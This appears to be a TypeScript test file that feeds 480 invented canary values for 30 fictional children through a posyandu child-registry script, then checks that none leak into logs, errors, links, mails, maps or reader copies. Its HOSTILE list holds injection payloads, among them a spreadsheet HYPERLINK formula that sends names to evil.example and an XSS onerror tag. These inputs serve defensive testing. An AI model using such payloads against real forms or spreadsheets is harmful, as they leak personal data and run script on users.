// 480 words and numbers that are in nothing else, 16 for each of 30 invented children, sent the ways that answers come in, some of them
// hostile, while services fail, responses are edited and children erased. Then everything that has left the script is searched for them.
import { createHmac } from 'node:crypto';
import { faultsByChance } from '../../local/google/core/faults';
import { setGeocoderMood } from '../../local/google/maps/maps-service';
import { scriptProperties } from '../../local/google/properties/properties-service';
import { viewWorkbook, workbookIds } from '../../local/google/spreadsheet';
import { BACKUP_TITLE } from '../../src/installation/backup-words';
import { MEMORY } from '../../src/installation/memory-names';
import { dayOf } from '../../src/kernel/calendar';
import { responseCodeOf } from '../../src/kernel/code';
import { cardKey } from '../../src/settings/sender-keys';
import { refusing } from '../../src/subjects/children/decisions/contents';
import type { Answers } from '../../src/subjects/children/submission/answers';
import type { ImportContext } from '../../src/subjects/import/import-rows';
import { readSheets } from '../../src/web/import/read-file';
import { Sending } from '../../src/web/import/send';
import { plannedFrom } from '../support/import-list';
import { BIDAN, CAMAT, DAY, HOUR, Kelurahan, MINUTE } from '../support/system/kelurahan';
import { Officer } from '../support/system/officer';

const CHILDREN = 30;

/** A word of ten letters that is in no language. */
function word(number: number): string {
  let rest = number * 7919 + 104_729;
  let letters = '';
  for (let i = 0; i < 5; i++) {
    letters += 'bcdfghjklmnpqrstvwxz'.charAt(rest % 20);
    rest = Math.floor(rest / 20);
  }
  return `Qx${letters}yvq`;
}

const padded = (number: number, length: number): string => String(number).padStart(length, '0');

/** The canaries of one child. */
function canariesOf(i: number) {
  const words = Array.from({ length: 10 }, (_, k) => word(i * 10 + k));
  const [name = '', surname = '', mother = '', grandmother = '', father = '', grandfather = ''] = words;
  const [, , , , , , street = '', landmark = '', note = '', edited = ''] = words;
  return {
    name,
    surname,
    mother,
    grandmother,
    father,
    grandfather,
    street,
    landmark,
    note,
    edited,
    nik: `33040607${padded((i % 12) + 1, 2)}25${padded(6101 + i, 4)}`,
    card: `33040601012${padded(45_117 + 13 * i, 5)}`,
    phone: `08123477${padded(1009 + 31 * i, 4)}`,
    lat: `7.39${padded(5001 + 17 * i, 4)}`,
    lng: `109.69${padded(3003 + 19 * i, 4)}`,
    remark: `zqv${padded(9001 + 7 * i, 5)}`,
  };
}

type Canaries = ReturnType<typeof canariesOf>;
const ALL = Array.from({ length: CHILDREN }, (_, i) => canariesOf(i));
const TRACES = ALL.flatMap((one) => Object.values(one)).map((trace) => trace.toLowerCase());

/** Ways of writing a name that somebody hopes to be run, followed, or put into another cell. */
const HOSTILE: readonly ((name: string) => string)[] = [
  (name) => name,
  (name) => `=HYPERLINK("http://evil.example/?${name}";"${name}")`,
  (name) => `<img src=x onerror="alert('${name}')">`,
  (name) => `${name}\u202e http://evil.example/${name}`,
  (name) => `{{${name}}} \${${name}} %n%s`,
];

function answersOf(one: Canaries, i: number): Answers {
  const hostile = HOSTILE[i % HOSTILE.length] ?? String;
  return {
    posyandu: i % 2 ? 'Mawar' : 'Melati',
    anak: 'baru',
    nama: hostile(`${one.name} ${one.surname}`),
    nama_ibu: `${one.mother} ${one.grandmother}`,
    nama_ayah: `${one.father} ${one.grandfather}`,
    nik: one.nik,
    no_kk: one.card,
    hp: one.phone,
    alamat: `Gang ${one.street}, dekat ${one.landmark}`,
    ...(i % 3 ? { lokasi: `-${one.lat}, ${one.lng}` } : {}),
    catatan: `${one.note} ${one.remark}`,
    jenis_kelamin: i % 2 ? 'L' : 'P',
    tanggal_lahir: `2025-${padded((i % 12) + 1, 2)}-07`,
    ...(i % 4 ? { rt: '2', rw: '1' } : {}),
    persetujuan: 'ya',
    tanggal_ukur: i % 7 === 6 ? 'kemarin' : '2026-01-07',
    berat: i % 5 === 4 ? '72' : '7,2',
    tinggi: '69,5',
    cara_ukur: 'telentang',
  };
}

/** Texts of what was thrown at those who asked. */
const thrown: string[] = [];

function refused(work: () => unknown): void {
  try {
    thrown.push(JSON.stringify(work() ?? null));
  } catch (error) {
    thrown.push(error instanceof Error ? `${error.message} ${error.stack}` : String(error));
  }
}

/** Of these children one is known from a list alone, one answer is refused, and one child is measured by its card too. */
const LISTED = 28;
const REFUSED = 27;
const BY_CARD = 26;

/** An officer brings in a list with one child in it. */
async function bringInList({ runtime, now }: Kelurahan, one: Canaries): Promise<void> {
  const context = runtime.callFromPage('imporDaftar', [], 'sidebar') as ImportContext;
  const list = [
    'Nama Anak;NIK;No KK;JK;Tanggal Lahir;Nama Ayah;Nama Ibu;No HP;Alamat;Posyandu;RT;RW;Tanggal Ukur;BB;TB',
    [
      ...[`${one.name} ${one.surname}`, one.nik, one.card, 'P', '07/05/2025'],
      ...[`${one.father} ${one.grandfather}`, `${one.mother} ${one.grandmother}`, one.phone],
      ...[`Gang ${one.street}, dekat ${one.landmark}`, 'Melati', '2', '1', '06/01/2026', '7,4', '68,5'],
    ].join(';'),
  ].join('\n');
  const sheets = readSheets('daftar.csv', new TextEncoder().encode(list));
  const rows = plannedFrom(sheets, { ...context, today: dayOf(context.now, context.zone) });
  const ready = rows.filter(({ verdict }) => verdict === 'ready');
  const call = <T>(argument: unknown): Promise<T> =>
    Promise.resolve(runtime.callFromPage('imporDaftar', [argument], 'sidebar') as T);
  const server = {
    take: (request: unknown) => call<never>(request),
    finish: (summary: unknown) => call<never>(summary),
    pause: () => Promise.resolve(),
  };
  const { added } = await new Sending(ready, now, 0, server).run(() => {});
  expect(added).toHaveLength(1);
}

/** Somebody who has a photograph of the card of a child writes what is said of it nowhere else. */
function sendByCard(kelurahan: Kelurahan, id: string, { edited, remark }: Canaries): void {
  const secret = scriptProperties(kelurahan.world)[MEMORY.mapSecret] ?? '';
  const code = responseCodeOf(id);
  const kode_kader = cardKey(code, 0, (text) =>
    createHmac('sha256', secret).update(text).digest('base64url'),
  );
  const visit = { posyandu: 'Mawar', anak: code, kode_kader, tanggal_ukur: '2026-01-08', oedema: 'ya' };
  kelurahan.send({ ...visit, catatan: `${edited} ${remark}` }, { id: 'lewat-kartu', email: '' });
}

async function eventfulWeek(): Promise<Kelurahan> {
  const kelurahan = new Kelurahan();
  const officer = new Officer(kelurahan);
  const { world, runtime } = kelurahan;
  const [first] = ALL;
  setGeocoderMood(world, { kind: 'failing', message: `Invalid argument: ${first?.street} ${first?.name}` });
  const ids = ALL.map((one, i) => {
    if (i === LISTED) return '';
    world.faults = i % 3 === 0 ? faultsByChance({ seed: i + 1, share: 0.05 }) : null;
    const stranger = i === REFUSED ? { kode_kader: one.edited } : {};
    const id = kelurahan.send({ ...answersOf(one, i), ...stranger });
    kelurahan.pass(MINUTE);
    return id;
  });
  world.faults = faultsByChance({ seed: 99, share: 0.02 });
  kelurahan.pass(6 * HOUR);
  world.faults = null;
  setGeocoderMood(world, { kind: 'normal' });
  kelurahan.pass(DAY);
  await bringInList(kelurahan, ALL[LISTED] as Canaries);
  sendByCard(kelurahan, ids[BY_CARD] ?? '', ALL[BY_CARD] as Canaries);
  const { response } = officer.look(responseCodeOf(ids[REFUSED] ?? ''), true);
  if (!response) throw new Error('the answer of a stranger waits');
  expect(officer.decide('tolak', refusing(response))).toMatchObject({ ok: true });
  for (const [i, one] of ALL.entries()) {
    if (i % 4 === 1) {
      const { tanggal_ukur: _, ...others } = answersOf(one, i);
      kelurahan.send(
        { ...others, tanggal_ukur: '2026-01-08', nama: `${one.edited} ${one.surname}` },
        { id: ids[i] ?? '' },
      );
    }
  }
  officer.decide('hapus', { kind: 'erase-later', responses: officer.responsesOf(0) });
  for (const [i, { name, nik, note }] of ALL.entries()) {
    if (i % 10 !== 0) continue;
    const content = { kind: 'correct', child: responseCodeOf(ids[i + 1] ?? ''), field: nik, value: note };
    refused(() => runtime.callFromPage('putuskan', [{ id: name, why: note, content }], 'sidebar'));
    refused(() => runtime.callFromPage('putuskan', [{ id: name, why: note, content }], 'web-app'));
    refused(() => runtime.callFromPage('lihatAnak', [{ code: name, alone: nik }], 'sidebar'));
    refused(() => runtime.callFromPage('imporDaftar', [{ at: name, rows: [note] }], 'sidebar'));
    refused(() => runtime.callFromPage('imporDaftar', [name, nik], 'web-app'));
    refused(() => runtime.doGet({ k: name, [note]: nik }));
  }
  kelurahan.pass(7 * DAY);
  return kelurahan;
}

/** As it is, and as it stands in an address. */
function plain(text: string): string {
  const spaced = text.replace(/\+/g, ' ');
  try {
    return `${text} ${decodeURIComponent(spaced)}`.toLowerCase();
  } catch {
    return `${text} ${spaced.replace(/%[0-9a-f]{2}/gi, (hex) => String.fromCharCode(Number.parseInt(hex.slice(1), 16)))}`.toLowerCase();
  }
}

function tracesIn(text: string): readonly string[] {
  const searched = plain(text);
  return TRACES.filter((trace) => searched.includes(trace));
}

describe('of 480 canaries', () => {
  let kelurahan: Kelurahan;
  let sections: Readonly<Record<string, unknown>>;
  beforeAll(async () => {
    kelurahan = await eventfulWeek();
    const saved: { readonly sections: Readonly<Record<string, unknown>> } = JSON.parse(
      kelurahan.world.save(),
    );
    sections = saved.sections;
  });

  test('there are so many, each another, and the register holds them', () => {
    expect(new Set(TRACES).size).toBe(480);
    const register = ['Data Anak', 'Perlu Perbaikan', 'Kiriman'].map((tab) => kelurahan.rows(tab));
    expect(tracesIn(JSON.stringify(register)).length).toBeGreaterThan(400);
    expect(kelurahan.runtime.failures().length).toBeGreaterThan(5);
    expect(thrown.length).toBe(18);
  });

  test('one of them stands in an imported row, in a refused answer, and in a visit by card each', () => {
    const journal = kelurahan.rows('Kiriman').map((row) => JSON.stringify(row).toLowerCase());
    const has = (trace: string | undefined) =>
      journal.filter((row) => row.includes(String(trace).toLowerCase()));
    expect(has(ALL[LISTED]?.nik)).toHaveLength(1);
    expect(has(ALL[REFUSED]?.nik)).toHaveLength(1);
    // Said as a code of a kader: taken out before anything is stored.
    expect(has(ALL[REFUSED]?.edited)).toHaveLength(0);
    expect(has(ALL[BY_CARD]?.edited).join()).toContain('lewat-kartu');
    const told = JSON.stringify(kelurahan.rows('Perlu Perbaikan')).toLowerCase();
    expect(told).not.toContain(ALL[REFUSED]?.name.toLowerCase());
    expect(kelurahan.mailsTo(CAMAT).some(({ subject }) => subject.startsWith('SEGERA'))).toBe(true);
  });

  test.each(['logs', 'failures', 'properties', 'cache'])('none is in the %s', (section) => {
    expect(tracesIn(JSON.stringify(sections[section] ?? {}))).toEqual([]);
  });

  test('none is in a text or a stack of an error', () => {
    const failures = kelurahan.runtime.failures().map((failure) => JSON.stringify(failure));
    expect(tracesIn([...failures, ...thrown].join('\n'))).toEqual([]);
  });

  test('none is in an address, of a cell or of a mail', () => {
    const cells = viewWorkbook(kelurahan.world, kelurahan.workbookId).sheets.flatMap(({ rows }) =>
      rows.flat(),
    );
    const ofCells = cells.flatMap(({ link }) => link ?? []);
    const ofMails = kelurahan.mails().flatMap(({ htmlBody }) => htmlBody?.match(/href="[^"]*"/g) ?? []);
    expect(ofCells.length).toBeGreaterThan(10);
    expect(ofMails.length).toBeGreaterThan(3);
    expect(tracesIn([...ofCells, ...ofMails].join('\n'))).toEqual([]);
  });

  test('none is in a mail to somebody without the right to see names, nor in a subject', () => {
    const mails = kelurahan.mailsTo(CAMAT);
    expect(mails.length).toBeGreaterThan(0);
    expect(tracesIn(JSON.stringify(mails))).toEqual([]);
    expect(
      tracesIn(
        kelurahan
          .mails()
          .map(({ subject }) => subject)
          .join('\n'),
      ),
    ).toEqual([]);
  });

  test.each([BIDAN, CAMAT])('none is on the map of %s', (address) => {
    const page = kelurahan.mapPageNextMonth(kelurahan.mapLink(address));
    expect(page).toContain('Krandegan');
    expect(tracesIn(page)).toEqual([]);
  });

  test('no NIK, no KK and no erased child is in a copy for readers', () => {
    const { world, workbookId } = kelurahan;
    const journal = JSON.stringify(kelurahan.rows('Kiriman'));
    const hidden = ALL.flatMap((one) =>
      journal.includes(one.nik) ? [one.nik, one.card] : Object.values(one),
    );
    const copies = workbookIds(world).filter(
      (id) => id !== workbookId && viewWorkbook(world, id).title !== BACKUP_TITLE,
    );
    expect(copies.length).toBeGreaterThan(0);
    const shown = copies.map((id) => JSON.stringify(viewWorkbook(world, id)).toLowerCase()).join('\n');
    expect(shown).toContain('qx');
    expect(hidden.filter((trace) => shown.includes(trace.toLowerCase()))).toEqual([]);
  });

  test('none of the erased child is in a tab that the script writes', () => {
    const journal = JSON.stringify(kelurahan.rows('Kiriman'));
    const erased = ALL.filter(({ nik }) => !journal.includes(nik));
    expect(erased).toHaveLength(1);
    const own = Object.values(erased[0] ?? {}).map((trace) => trace.toLowerCase());
    const found = viewWorkbook(kelurahan.world, kelurahan.workbookId).sheets.flatMap(({ title, rows }) => {
      // The form's own tab, which the script neither reads nor writes.
      if (title.startsWith('Form Responses')) return [];
      const shown = JSON.stringify(rows).toLowerCase();
      return own.filter((trace) => shown.includes(trace)).map((trace) => `${title}: ${trace}`);
    });
    expect(found).toEqual([]);
  });
});
